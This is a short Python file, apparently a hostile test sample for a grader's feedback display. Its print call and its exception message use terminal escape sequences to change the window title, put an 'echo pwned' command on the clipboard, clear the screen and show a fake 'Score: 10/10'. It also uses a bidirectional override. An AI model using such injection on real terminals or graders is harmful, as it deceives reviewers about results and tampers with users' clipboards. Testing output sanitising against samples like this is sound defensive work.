# Attack: draws on the terminal of whoever reads its feedback: sets the window title, writes the clipboard
# (OSC 52), rings the bell, clears the screen and prints a fake score, in its output and in an exception's
# message; a bidirectional override reorders what follows it.
print("\x1b]0;pwned\x07\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x1b[H\x1b[32mScore: 10/10\x1b[0m\u202eevil")


def predict(x, w, b):
    raise ValueError("\x1b[2J\x1b[HScore: 10/10 \x9b31m\x07")
